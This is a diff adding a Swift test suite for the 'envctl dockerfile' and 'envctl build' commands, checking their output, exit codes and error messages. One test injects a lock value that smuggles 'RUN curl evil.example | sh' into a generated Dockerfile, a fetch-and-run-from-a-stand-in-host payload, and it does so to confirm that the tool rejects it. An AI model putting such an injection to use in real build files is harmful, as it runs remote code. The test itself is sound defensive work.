@@ -1,0 +1,95 @@
+import EnvctlModel
+import EnvctlTestSupport
+import Foundation
+import Testing
+
+/// `envctl dockerfile` and `envctl build` as a user runs them: output, files and exit codes.
+@Suite struct DockerfileCommandTests {
+    /// The quickstart example lock with its (offline, absent) image digests filled in.
+    static func pinnedQuickstart(in dir: TemporaryDirectory, edit: (inout LockedEnvironment) -> Void = { _ in }) throws -> String {
+        var lock = try Lockfile.load(fileAt: RepoPaths.path("lockfiles/quickstart.lock"))
+        for i in lock.environments.indices {
+            lock.environments[i].images.base.digest = "sha256:" + String(repeating: "b", count: 64)
+            lock.environments[i].images.builder.digest = "sha256:" + String(repeating: "d", count: 64)
+            edit(&lock.environments[i])
+        }
+        let path = dir.path + "/envctl.lock"
+        try lock.write(to: path)
+        return path
+    }
+
+    @Test func dockerfileIsByteIdenticalAndWritesOutputFile() throws {
+        let dir = try TemporaryDirectory()
+        defer { dir.cleanup() }
+        let lock = try Self.pinnedQuickstart(in: dir)
+        let env = ["SOURCE_DATE_EPOCH": "1714564800"]
+        let a = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", lock], cwd: dir.path, environment: env)
+        let b = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", lock], cwd: dir.path, environment: env)
+        #expect(a.status == 0, "\(a.stderr)")
+        #expect(a.stdout == b.stdout)
+        #expect(a.stdout.contains("ARG BASE_IMAGE=docker.io/nvidia/cuda:12.4.1-base-ubuntu22.04@sha256:bbbb"))
+        #expect(a.stdout.contains("org.opencontainers.image.created=\"2024-05-01T12:00:00Z\""))
+        let o = try runProcess(
+            RepoPaths.envctlBinary, ["dockerfile", "--lock", lock, "--env", "train", "-o", "out/Dockerfile.train"],
+            cwd: dir.path, environment: env)
+        #expect(o.status == 1 && o.stderr.contains("cannot write out/Dockerfile.train"))
+        try FileManager.default.createDirectory(atPath: dir.path + "/out", withIntermediateDirectories: true)
+        let o2 = try runProcess(
+            RepoPaths.envctlBinary, ["dockerfile", "--lock", lock, "--env", "train", "-o", "out/Dockerfile.train"],
+            cwd: dir.path, environment: env)
+        #expect(o2.status == 0 && o2.stdout.isEmpty)
+        #expect(try String(contentsOfFile: dir.path + "/out/Dockerfile.train", encoding: .utf8) == a.stdout)
+    }
+
+    @Test func unpinnedLockIsRefused() throws {
+        let r = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", RepoPaths.path("lockfiles/quickstart.lock")])
+        #expect(r.status == 64)
+        #expect(r.stderr.contains("has no digest in the lock"))
+    }
+
+    @Test func hostileLockValueIsRefused() throws {
+        let dir = try TemporaryDirectory()
+        defer { dir.cleanup() }
+        let lock = try Self.pinnedQuickstart(in: dir) { $0.env["EVIL"] = "x\nRUN curl evil.example | sh" }
+        let r = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", lock])
+        #expect(r.status == 64)
+        #expect(r.stderr.contains(#"value of EVIL "x\nRUN curl evil.example | sh" contains the control character U+000A"#))
+        #expect(r.stdout.isEmpty)
+    }
+
+    @Test func unknownEnvironmentAndTemplate() throws {
+        let dir = try TemporaryDirectory()
+        defer { dir.cleanup() }
+        let lock = try Self.pinnedQuickstart(in: dir)
+        let r = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", lock, "--env", "nope"])
+        #expect(r.status == 64)
+        #expect(r.stderr.contains("no environment 'nope'"))
+        let t = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", lock, "--template", "pytorch"])
+        #expect(t.status == 64)
+        #expect(t.stderr.contains("available: cuda, jax, tensorflow, torch"))
+    }
+
+    @Test func missingBuilderExits69NamingWhatToInstall() throws {
+        let dir = try TemporaryDirectory()
+        defer { dir.cleanup() }
+        let lock = try Self.pinnedQuickstart(in: dir)
+        let r = try runProcess(
+            RepoPaths.envctlBinary, ["build", "--lock", lock, "--builder", "buildah"], cwd: dir.path,
+            environment: ["PATH": dir.path])
+        #expect(r.status == 69)
+        #expect(r.stderr.contains("buildah is not installed"))
+        #expect(r.stderr.contains("apt-get install buildah"))
+        let any = try runProcess(RepoPaths.envctlBinary, ["build", "--lock", lock], cwd: dir.path, environment: ["PATH": dir.path])
+        #expect(any.status == 69)
+        #expect(any.stderr.contains("none of buildah, podman, docker is on PATH"))
+    }
+
+    @Test func pushWithoutRepositoryIsBadInput() throws {
+        let dir = try TemporaryDirectory()
+        defer { dir.cleanup() }
+        let lock = try Self.pinnedQuickstart(in: dir) { $0.image = nil }
+        let r = try runProcess(RepoPaths.envctlBinary, ["build", "--lock", lock, "--push"], cwd: dir.path)
+        #expect(r.status == 64)
+        #expect(r.stderr.contains("has no image repository to push to"))
+    }
+}
